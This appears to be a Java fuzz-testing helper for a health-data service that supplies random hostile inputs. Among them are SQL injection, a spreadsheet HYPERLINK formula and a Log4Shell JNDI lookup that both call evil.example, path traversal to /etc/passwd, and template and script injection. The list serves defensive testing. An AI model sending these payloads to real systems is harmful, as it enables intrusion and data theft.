package health.overturn.lambda.hostile;

import java.util.List;
import java.util.Random;

/// Texts that have broken software before. Some carry the mark of a patient.
final class HostileValues {
    /// Stands in every invented patient's number and note, and in what is sent as one.
    static final String MARK = "MARKED-PATIENT";

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            MARK,
            MARK + "' OR '1'='1",
            "=HYPERLINK(\"http://evil.example\",\"" + MARK + "\")",
            "\u0000",
            MARK + "\u0000",
            "\u001b[31m",
            "\uD800",
            MARK + "\uDFFF",
            "%",
            "%25",
            "%2525",
            "%00",
            "..",
            "../../../etc/passwd",
            "null",
            "undefined",
            "NaN",
            "Infinity",
            "true",
            "FALSE",
            "-1",
            "0",
            "1",
            "201",
            "1e400",
            "1E-400",
            "0x10",
            "+5",
            "00000000000000000000000001",
            "9223372036854775807",
            "9223372036854775808",
            "-9223372036854775809",
            "9".repeat(40),
            "9".repeat(5_000),
            "2026-02-30",
            "0000-01-01",
            "-0001-01-01",
            "10000-01-01",
            "+999999999-12-31",
            "-999999999-01-01",
            "1899-12-31",
            "2100-12-31",
            "2026-06-01T00:00:00Z",
            "2026-W99",
            "0000-W00",
            "2026-W53",
            "latest",
            "a.b",
            ".",
            "#",
            "a#b",
            "2026-W22::",
            "2026-W22:PAYER:CODING",
            "+999999999-W01:A:CODING",
            "\u202Eright to left",
            "\uD83D\uDCA9",
            "{{7*7}}",
            "${jndi:ldap://evil.example}",
            "<script>alert(1)</script>",
            "a,b,,c",
            "PAID,PAID",
            MARK.repeat(40),
            "x".repeat(201),
            "x".repeat(10_000));

    private HostileValues() {}

    static String next(Random random) {
        return TEXTS.get(random.nextInt(TEXTS.size()));
    }

    static <T> T oneOf(Random random, List<T> all) {
        return all.get(random.nextInt(all.size()));
    }

    static boolean oneIn(Random random, int times) {
        return random.nextInt(times) == 0;
    }
}
